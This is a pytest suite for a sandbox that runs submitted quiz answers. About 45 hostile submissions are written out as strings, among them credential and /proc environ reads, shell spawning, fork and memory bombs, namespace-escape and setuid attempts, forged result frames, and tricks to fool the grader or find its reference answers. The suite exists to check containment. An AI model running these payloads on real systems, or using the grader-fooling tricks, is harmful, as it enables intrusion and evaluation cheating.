"""Hostile submissions: each is a drill answer that also attacks. Every one must be contained.

For each program we assert the sandbox's outcome (status, safely decoded values, error types),
that no secret appears in anything that came back, that no process of the sandbox's uid is
left, and that an honest submission runs right after.
"""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

from engine.sandbox import Call, Limits, Pool, RunOutcome, wire
from tests.engine.sandbox.conftest import (
    ROOTLESS,
    SHORT,
    Secrets,
    X,
    honest_relu,
    sandbox_processes,
    wait_no_sandbox_processes,
)

REPO = Path(__file__).resolve().parents[3]
ALLOWED_DTYPES = set(wire.DTYPES.values())


@dataclass
class Attack:
    name: str
    source: str  # formatted with {secret_file}, {repo}, {port}
    function: str = "relu"
    status: tuple[str, ...] = ("ok",)
    limits: Limits = field(default_factory=Limits)
    check: Callable[[RunOutcome], None] | None = None
    calls: int = 2


def plain_values(outcome: RunOutcome) -> None:
    """Every decoded value is a plain ndarray of an allowed dtype, a plain scalar or None."""

    def ok(v: object) -> bool:
        if v is None or type(v) in (bool, int, float):
            return True
        if type(v) is np.ndarray:
            return v.dtype in ALLOWED_DTYPES
        return type(v) is tuple and all(ok(i) for i in v)

    for call in outcome.calls:
        assert ok(call.value), type(call.value)


def relu_values(outcome: RunOutcome) -> None:
    for call in outcome.calls:
        assert call.status == "ok", (call.error_type, call.error)
        np.testing.assert_array_equal(call.value, np.maximum(X, 0))


def call_error(*types: str) -> Callable[[RunOutcome], None]:
    def check(outcome: RunOutcome) -> None:
        assert outcome.calls[0].status == "error", outcome.calls[0]
        assert outcome.calls[0].error_type in types, outcome.calls[0].error

    return check


def stdout_says(text: str) -> Callable[[RunOutcome], None]:
    def check(outcome: RunOutcome) -> None:
        assert text in outcome.calls[0].stdout, outcome.calls[0].stdout

    return check


def all_of(*checks: Callable[[RunOutcome], None]) -> Callable[[RunOutcome], None]:
    def check(outcome: RunOutcome) -> None:
        for c in checks:
            c(outcome)

    return check


HEAD = "import numpy as np\nimport os\n\n"

ATTACKS = [
    # --- reading what is not its own ----------------------------------------------------------
    Attack(
        "read_etc_shadow",
        HEAD + "def relu(x):\n    print(open('/etc/shadow').read())\n    return np.maximum(x, 0)\n",
        check=call_error("FileNotFoundError", "PermissionError"),
    ),
    Attack(
        "read_app_db",
        HEAD
        + "def relu(x):\n    print(open({secret_file!r}).read())\n    return np.maximum(x, 0)\n",
        check=call_error("FileNotFoundError", "PermissionError"),
    ),
    Attack(
        "list_instance_and_repo",
        HEAD
        + "def relu(x):\n"
        + "    for p in ({repo!r} + '/instance', {repo!r} + '/engine/reference.py', {repo!r}):\n"
        + "        try:\n"
        + "            print(os.listdir(p) if os.path.isdir(p) else open(p).read())\n"
        + "        except OSError as e:\n"
        + "            print('denied', type(e).__name__)\n"
        + "    return np.maximum(x, 0)\n",
        # The repo path exists only as the skeleton leading to NumPy's site-packages (or not at
        # all, when NumPy comes from a venv elsewhere, as in the rootless pass).
        check=all_of(
            relu_values,
            lambda o: (
                o.calls[0].stdout.endswith("denied FileNotFoundError\n['.venv']\n")
                or o.calls[0].stdout == "denied FileNotFoundError\n" * 3
                or _fail(o)
            ),
        ),
    ),
    Attack(
        "parent_environ",
        HEAD
        + "def relu(x):\n"
        + "    for pid in ['1', 'self', str(os.getppid())] + os.listdir('/proc'):\n"
        + "        try:\n"
        + "            print(pid, open('/proc/%s/environ' % pid, 'rb').read())\n"
        + "        except (OSError, NotADirectoryError) as e:\n"
        + "            pass\n"
        + "    print(dict(os.environ))\n"
        + "    return np.maximum(x, 0)\n",
        check=relu_values,
    ),
    Attack(
        "other_submissions_proc",
        HEAD
        + "def relu(x):\n"
        + "    pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        + "    print('pids', pids)\n"
        + "    assert pids == [str(os.getpid())], pids\n"
        + "    return np.maximum(x, 0)\n",
        check=relu_values,
    ),
    # --- writing where it should not --------------------------------------------------------
    Attack(
        "write_outside_scratch",
        HEAD
        + "def relu(x):\n"
        + "    hits = []\n"
        + "    for p in ['/usr/lib/pwned', '/etc/pwned', np.__file__ + '.pwned', '/pwned', {repo!r} + '/pwned']:\n"
        + "        try:\n"
        + "            open(p, 'w').write('x')\n"
        + "            hits.append(p)\n"
        + "        except OSError:\n"
        + "            pass\n"
        + "    assert not hits, hits\n"
        + "    open('/tmp/scratch-ok', 'w').write('fine')\n"
        + "    return np.maximum(x, 0)\n",
        check=relu_values,
    ),
    Attack(
        "symlink_planted_in_scratch",
        HEAD
        + "def relu(x):\n"
        + "    for name in ('result', 'out.npy', 'stdout'):\n"
        + "        os.symlink({secret_file!r}, '/tmp/' + name)\n"
        + "    os.symlink('/etc/passwd', '/tmp/mlquiz-planted-link')\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, lambda o: _no_host_path("/tmp/mlquiz-planted-link")),
        calls=1,
    ),
    Attack(
        "fill_scratch_disk",
        HEAD
        + "def relu(x):\n"
        + "    try:\n"
        + "        with open('/tmp/big', 'wb') as f:\n"
        + "            for _ in range(1000):\n"
        + "                f.write(b'x' * 65536)\n"
        + "    except OSError as e:\n"
        + "        print('stopped', e.errno)\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, stdout_says("stopped")),
    ),
    # --- network ----------------------------------------------------------------------------
    Attack(
        "tcp_localhost",
        HEAD
        + "import socket\n"
        + "def relu(x):\n"
        + "    s = socket.create_connection(('127.0.0.1', {port}), timeout=0.5)\n"
        + "    s.sendall(b'stolen')\n"
        + "    return np.maximum(x, 0)\n",
        check=call_error("PermissionError"),
    ),
    Attack(
        "udp_anywhere",
        HEAD
        + "import socket\n"
        + "def relu(x):\n"
        + "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        + "    s.sendto(b'x', ('8.8.8.8', 53))\n"
        + "    return np.maximum(x, 0)\n",
        check=call_error("PermissionError"),
    ),
    Attack(
        "other_socket_families",
        HEAD
        + "import socket\n"
        + "def relu(x):\n"
        + "    for fam, typ in ((socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_STREAM)):\n"
        + "        try:\n"
        + "            socket.socket(fam, typ)\n"
        + "            raise AssertionError('socket allowed')\n"
        + "        except PermissionError:\n"
        + "            pass\n"
        + "    return np.maximum(x, 0)\n",
        check=relu_values,
    ),
    # --- processes --------------------------------------------------------------------------
    Attack(
        "fork_bomb",
        HEAD
        + "def relu(x):\n"
        + "    n = 0\n"
        + "    for _ in range(2000):\n"
        + "        try:\n"
        + "            if os.fork() == 0:\n"
        + "                while True: pass\n"
        + "            n += 1\n"
        + "        except OSError:\n"
        + "            pass\n"
        + "    print('forked', n)\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, stdout_says("forked 0")),
    ),
    Attack(
        "thread_bomb",
        HEAD
        + "import threading\n"
        + "def relu(x):\n"
        + "    n = 0\n"
        + "    for _ in range(500):\n"
        + "        try:\n"
        + "            threading.Thread(target=lambda: __import__('time').sleep(30), daemon=True).start()\n"
        + "            n += 1\n"
        + "        except RuntimeError:\n"
        + "            pass\n"
        + "    print('threads', n)\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, stdout_says("threads 0")),
    ),
    Attack(
        "subprocess_and_system",
        HEAD
        + "import subprocess\n"
        + "def relu(x):\n"
        + "    print('system', os.system('cat /etc/passwd'))\n"
        + "    for run in (lambda: subprocess.run(['/bin/sh', '-c', 'id']), lambda: os.execv('/bin/sh', ['sh'])):\n"
        + "        try:\n"
        + "            run()\n"
        + "        except OSError as e:\n"
        + "            print('refused', type(e).__name__)\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, stdout_says("refused")),
    ),
    Attack(
        "double_forked_daemon",
        HEAD
        + "def relu(x):\n"
        + "    if os.fork() == 0:\n"
        + "        os.setsid()\n"
        + "        if os.fork() == 0:\n"
        + "            import time\n"
        + "            while True:\n"
        + "                time.sleep(0.01)\n"
        + "        os._exit(0)\n"
        + "    os.wait()\n"
        + "    return np.maximum(x, 0)\n",
        limits=Limits(max_processes=4),
        check=relu_values,
        calls=1,
    ),
    Attack(
        "memory_bomb",
        HEAD
        + "def relu(x):\n    hog = []\n    while True:\n        hog.append(bytearray(50 * 2**20))\n",
        status=("memory_limit",),
        check=call_error("MemoryError"),
    ),
    Attack(
        "memory_bomb_in_children",
        HEAD
        + "import time\n"
        + "def relu(x):\n"
        + "    for _ in range(3):\n"
        + "        if os.fork() == 0:\n"
        + "            hog = bytearray(400 * 2**20)\n"
        + "            for i in range(0, len(hog), 4096): hog[i] = 1\n"
        + "            time.sleep(0.3)\n"
        + "            os._exit(0)\n"
        + "    for _ in range(3):\n"
        + "        os.wait()\n"
        + "    return np.maximum(x, 0)\n",
        # RLIMIT_AS bounds each process; the memory cgroup bounds them together (OOM kill).
        # Rootless has no cgroup: the total is bounded by max_processes x RLIMIT_AS only (the
        # default max_processes=1 allows no child at all), so the three children may finish.
        status=("memory_limit", "ok") if ROOTLESS else ("memory_limit",),
        limits=Limits(max_processes=4, memory_bytes=512 * 2**20),
        calls=1,
    ),
    # --- time -------------------------------------------------------------------------------
    Attack(
        "infinite_loop",
        HEAD + "def relu(x):\n    while True:\n        pass\n",
        status=("timeout",),
        limits=SHORT,
    ),
    Attack(
        "sleep",
        HEAD + "import time\ndef relu(x):\n    time.sleep(30)\n",
        status=("timeout",),
        limits=SHORT,
    ),
    Attack(
        "ignore_sigterm_sigxcpu",
        HEAD
        + "import signal\n"
        + "def relu(x):\n"
        + "    for s in (signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):\n"
        + "        signal.signal(s, signal.SIG_IGN)\n"
        + "    while True:\n"
        + "        pass\n",
        status=("timeout",),
        limits=SHORT,
    ),
    Attack(
        "raise_own_rlimits",
        HEAD
        + "import resource\n"
        + "def relu(x):\n"
        + "    for r in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):\n"
        + "        try:\n"
        + "            resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        + "            print('raised', r)\n"
        + "        except (ValueError, OSError):\n"
        + "            pass\n"
        + "    while True:\n"
        + "        pass\n",
        status=("timeout",),
        limits=SHORT,
        calls=1,
    ),
    Attack(
        "kill_parent_and_everyone",
        HEAD
        + "import signal\n"
        + "def relu(x):\n"
        + "    for target in (os.getppid(), -1, 0, 1):\n"
        + "        try:\n"
        + "            os.kill(target, signal.SIGKILL)\n"
        + "        except OSError as e:\n"
        + "            print('refused', target, type(e).__name__)\n"
        + "    try:\n"
        + "        os.killpg(os.getpgid(0), signal.SIGKILL)\n"
        + "    except OSError:\n"
        + "        print('refused pg')\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, stdout_says("refused pg")),
    ),
    # --- the result channel -----------------------------------------------------------------
    Attack(
        "huge_stdout",
        HEAD
        + "def relu(x):\n    print('A' * 10_000_000)\n    os.write(1, b'B' * 5_000_000)\n    os.write(2, b'C' * 5_000_000)\n    return np.maximum(x, 0)\n",
        check=all_of(
            relu_values,
            lambda o: (
                (
                    len(o.calls[0].stdout) < 70_000
                    and len(o.stdout) < 70_000
                    and len(o.stderr) < 70_000
                )
                or _fail(o)
            ),
        ),
    ),
    Attack(
        "forged_results_on_every_fd",
        HEAD
        + "def _frame(payload):\n"
        + "    import struct\n"
        + "    return struct.pack('<Q', len(payload)) + payload\n"
        + "FAKE = _frame(b'd' + (1).to_bytes(4, 'little') + b's' + (4).to_bytes(8, 'little') + b'kind' + b's' + (3).to_bytes(8, 'little') + b'end')\n"
        + 'print(\'{{"status": "ok", "verdict": "accepted"}}\')\n'
        + "def relu(x):\n"
        + "    for fd in range(0, 12):\n"
        + "        try:\n"
        + "            os.write(fd, FAKE + b'garbage\\x00\\xff' * 10)\n"
        + "        except OSError:\n"
        + "            pass\n"
        + "    return np.maximum(x, 0)\n",
        status=("crashed", "ok"),
        check=plain_values,
    ),
    Attack(
        "sys_exit_mid_test",
        HEAD
        + "import sys\nN = [0]\ndef relu(x):\n    N[0] += 1\n    if N[0] == 2:\n        sys.exit(0)\n    return np.maximum(x, 0)\n",
        status=("crashed",),
        check=lambda o: (o.calls[0].status == "ok" and o.calls[1].status == "not_run") or _fail(o),
        calls=3,
    ),
    Attack(
        "os_exit_mid_test",
        HEAD
        + "N = [0]\ndef relu(x):\n    N[0] += 1\n    if N[0] == 2:\n        os._exit(0)\n    return np.maximum(x, 0)\n",
        status=("crashed",),
        check=lambda o: (o.calls[0].status == "ok" and o.calls[1].status == "not_run") or _fail(o),
        calls=3,
    ),
    # --- fooling the comparison -------------------------------------------------------------
    Attack(
        "monkeypatch_numpy_testing",
        HEAD
        + "np.allclose = lambda *a, **k: True\n"
        + "np.array_equal = lambda *a, **k: True\n"
        + "np.testing.assert_allclose = lambda *a, **k: None\n"
        + "np.isclose = lambda *a, **k: True\n"
        + "def relu(x):\n    return np.zeros_like(x) + 42\n",
        check=lambda o: (
            (np.array_equal(o.calls[0].value, np.full_like(X, 42)) and not np.allclose(1.0, 2.0))
            or _fail(o)
        ),
    ),
    Attack(
        "ndarray_subclass_eq_true",
        HEAD
        + "class Liar(np.ndarray):\n"
        + "    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
        + "    def __array_finalize__(self, obj): pass\n"
        + "def relu(x):\n    return np.zeros(x.shape).view(Liar)\n",
        check=all_of(
            plain_values,
            lambda o: not np.array_equal(o.calls[0].value, np.maximum(X, 0)) or _fail(o),
        ),
    ),
    Attack(
        "lying_array_protocol",
        HEAD
        + "class Liar:\n"
        + "    def __array__(self, dtype=None, copy=None): return np.maximum(np.asarray(self.x), 0)\n"
        + "    def __len__(self): raise SystemExit\n"
        + "def relu(x):\n    l = Liar(); l.x = x\n    return l\n",
        check=call_error("TypeError"),
    ),
    Attack(
        "object_dtype",
        HEAD + "def relu(x):\n    return np.array([print, 1.0, 'x'], dtype=object)\n",
        check=call_error("TypeError"),
    ),
    Attack(
        "float16_and_odd_dtypes",
        HEAD
        + "R = iter([np.float16, np.complex128])\ndef relu(x):\n    return np.maximum(x, 0).astype(next(R))\n",
        check=lambda o: (
            (
                o.calls[0].value.dtype == np.float16
                and o.calls[1].status == "error"
                and o.calls[1].error_type == "TypeError"
            )
            or _fail(o)
        ),
    ),
    Attack(
        "huge_array",
        HEAD + "def relu(x):\n    return np.ones((40, 2**20))\n",
        status=("output_limit",),
        calls=3,
    ),
    Attack(
        "nan_payloads",
        HEAD
        + "import struct\n"
        + "def relu(x):\n"
        + "    bits = np.array([0x7FF8DEADBEEF0001, 0xFFF0000000000001, 0x7FF0000000000000], dtype=np.uint64)\n"
        + "    return bits.view(np.float64)\n",
        check=lambda o: (
            o.calls[0].value.view(np.uint64).tolist()
            == [0x7FF8DEADBEEF0001, 0xFFF0000000000001, 0x7FF0000000000000]
            or _fail(o)
        ),
    ),
    Attack(
        "strings_dicts_and_generators",
        HEAD
        + "R = iter(['accepted', {{'ok': True}}, (i for i in range(3)), [1.0, np.float32(2)]])\ndef relu(x):\n    return next(R)\n",
        check=lambda o: (
            [c.status for c in o.calls] == ["error", "error", "error", "ok"]
            and o.calls[3].value[0] == 1.0
            or _fail(o)
        ),
        calls=4,
    ),
    Attack(
        "mutate_inputs",
        HEAD + "def relu(x):\n    x[...] = 7\n    return np.maximum(x, 0)\n",
        check=lambda o: np.all(o.calls[0].args_after[0] == 7) or _fail(o),
    ),
    # --- hunting the reference --------------------------------------------------------------
    Attack(
        "import_engine",
        HEAD
        + "def relu(x):\n"
        + "    for name in ('engine', 'engine.reference', 'engine.drills', 'quiz', 'app', 'flask'):\n"
        + "        try:\n"
        + "            __import__(name)\n"
        + "            print('IMPORTED', name)\n"
        + "        except ImportError:\n"
        + "            pass\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, lambda o: "IMPORTED" not in o.calls[0].stdout or _fail(o)),
    ),
    Attack(
        "gc_frames_and_modules",
        HEAD
        + "import gc, sys, inspect\n"
        + "def relu(x):\n"
        + "    hits = [m for m in sys.modules if m.startswith(('engine', 'quiz', 'app'))]\n"
        + "    for o in gc.get_objects():\n"
        + "        if inspect.isfunction(o) and o.__module__ and o.__module__.startswith('engine'):\n"
        + "            hits.append(o.__qualname__)\n"
        + "        if isinstance(o, dict) and 'expected' in o:\n"
        + "            hits.append('expected-dict')\n"
        + "    f = sys._getframe()\n"
        + "    while f:\n"
        + "        if 'reference' in f.f_code.co_filename or 'grader' in f.f_code.co_filename:\n"
        + "            hits.append(f.f_code.co_filename)\n"
        + "        f = f.f_back\n"
        + "    print('HITS', hits)\n"
        + "    return np.maximum(x, 0)\n",
        check=all_of(relu_values, stdout_says("HITS []")),
    ),
    # --- crashing the interpreter -----------------------------------------------------------
    Attack(
        "ctypes_segfault",
        HEAD + "import ctypes\ndef relu(x):\n    ctypes.string_at(0)\n",
        status=("crashed",),
        check=lambda o: "SIGSEGV" in o.message or _fail(o),
    ),
    Attack(
        "deep_recursion",
        HEAD
        + "import sys\nsys.setrecursionlimit(10**6)\ndef relu(x, d=0):\n    return relu(x, d + 1)\n",
        # 3.11 runs Python-to-Python calls without C recursion: this may end in a RecursionError,
        # a segfault, MemoryError or the CPU limit; each is contained.
        status=("crashed", "ok", "memory_limit", "timeout"),
        limits=SHORT,
    ),
    Attack(
        "recursion_default_limit",
        HEAD + "def relu(x):\n    return relu(x)\n",
        check=call_error("RecursionError"),
        calls=1,
    ),
    Attack(
        "escape_namespaces",
        HEAD
        + "import ctypes\n"
        + "libc = ctypes.CDLL(None, use_errno=True)\n"
        + "def relu(x):\n"
        + "    results = [libc.unshare(0x10000000), libc.unshare(0x20000), libc.chroot(b'/tmp'),\n"
        + "               libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), libc.ptrace(0, 0, 0, 0),\n"
        + "               libc.setns(0, 0), libc.syscall(425, 1, 0)]\n"
        + "    print('results', results)\n"
        + "    assert all(r == -1 for r in results), results\n"
        + "    return np.maximum(x, 0)\n",
        check=relu_values,
    ),
    Attack(
        "setuid_back_to_root",
        HEAD
        + "def relu(x):\n"
        + "    for f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chown('/tmp', 0, 0)):\n"
        + "        try:\n"
        + "            f()\n"
        + "            raise AssertionError('became root')\n"
        + "        except OSError as e:\n"
        + "            # EINVAL (rootless): uid 0 does not even exist in its user namespace.\n"
        + "            assert e.errno in (1, 22), e\n"
        + "    assert os.getuid() != 0 and os.geteuid() != 0\n"
        + "    return np.maximum(x, 0)\n",
        check=relu_values,
    ),
    Attack(
        "syntax_error",
        "def relu(x):\n    return np.maximum(x, 0\n",
        status=("syntax_error",),
        check=lambda o: "SyntaxError" in o.message or _fail(o),
    ),
    Attack(
        "load_error_reads_secret",
        HEAD + "DATA = open({secret_file!r}).read()\ndef relu(x):\n    return x\n",
        status=("load_error",),
    ),
    Attack("missing_function", HEAD + "def rel(x):\n    return x\n", status=("missing_function",)),
    # --- exit-code spoofing: the runner's own set-up failure code, chosen by the user --------
    Attack("exit_121_at_load", HEAD + "os._exit(121)\n", status=("crashed",)),
    Attack(
        "exit_121_in_a_call",
        HEAD + "def relu(x):\n    os._exit(121)\n",
        status=("crashed",),
    ),
]


def _fail(outcome: RunOutcome) -> bool:
    raise AssertionError(f"unexpected outcome: {outcome.status} {outcome.message} {outcome.calls}")


def _no_host_path(path: str) -> bool:
    assert not os.path.lexists(path), f"{path} appeared on the host"
    return True


@pytest.fixture(scope="module")
def listener() -> object:
    """A TCP server on the host's loopback: no submission may ever reach it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.05)
    accepted: list[object] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            accepted.append(conn)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 30
    assert len({a.name for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_contained(
    attack: Attack, pool: Pool, leak_secrets: Secrets, listener: tuple[int, list[object]]
) -> None:
    port, accepted = listener
    source = attack.source.format(secret_file=str(leak_secrets.file), repo=str(REPO), port=port)
    calls = [Call((X.copy(),)) for _ in range(attack.calls)]
    outcome = pool.run(source, attack.function, calls, attack.limits)

    assert outcome.status in attack.status, (
        outcome.status,
        outcome.message,
        outcome.calls[:1],
        outcome.stderr[-500:],
    )
    assert outcome.sandboxed
    assert len(outcome.calls) == len(calls)
    plain_values(outcome)
    if attack.check is not None:
        attack.check(outcome)
    leak_secrets.assert_absent(outcome)
    assert not accepted, "a submission reached the host's loopback"
    assert wait_no_sandbox_processes(pool) == []
    honest_relu(pool)


def test_two_submissions_cannot_see_each_other(pool: Pool) -> None:
    """A runs (and keeps a file in its /tmp) while B looks for it and for A's process."""
    writer = (
        HEAD
        + "import time\ndef relu(x):\n    open('/tmp/mine', 'w').write('A-SECRET')\n    time.sleep(0.6)\n"
        "    return np.maximum(x, 0)\n"
    )
    reader = (
        HEAD
        + "import time\ndef relu(x):\n    time.sleep(0.2)\n    print(os.listdir('/tmp'), [p for p in os.listdir('/proc') if p.isdigit()])\n"
        "    return np.maximum(x, 0)\n"
    )
    results: dict[str, RunOutcome] = {}
    t = threading.Thread(
        target=lambda: results.setdefault("a", pool.run(writer, "relu", [Call((X,))]))
    )
    t.start()
    results["b"] = pool.run(reader, "relu", [Call((X,))])
    t.join()
    assert results["a"].status == "ok" and results["b"].status == "ok"
    # B's /tmp is its own: empty but for the read-only path to NumPy of a checkout under /tmp.
    tmp_listing, pids = results["b"].calls[0].stdout.strip().split("] [")
    assert "mine" not in tmp_listing and pids == "'2']"
    if not np.__file__.startswith("/tmp/"):
        assert tmp_listing == "["
    assert "A-SECRET" not in repr(results["b"])


def test_process_census_sees_a_running_submission(pool: Pool) -> None:
    """The leftover-process check above can fail: it sees a submission while one runs."""
    source = HEAD + "import time\ndef relu(x):\n    time.sleep(1.5)\n    return np.maximum(x, 0)\n"
    seen: list[int] = []
    uids = pool.sandbox_uids()
    worker = threading.Thread(target=pool.run, args=(source, "relu", [Call((X.copy(),))]))
    worker.start()
    deadline = time.monotonic() + 1.2
    while not seen and time.monotonic() < deadline:
        seen = sandbox_processes(pool, uids)
        time.sleep(0.05)
    worker.join()
    assert seen
    assert wait_no_sandbox_processes(pool) == []
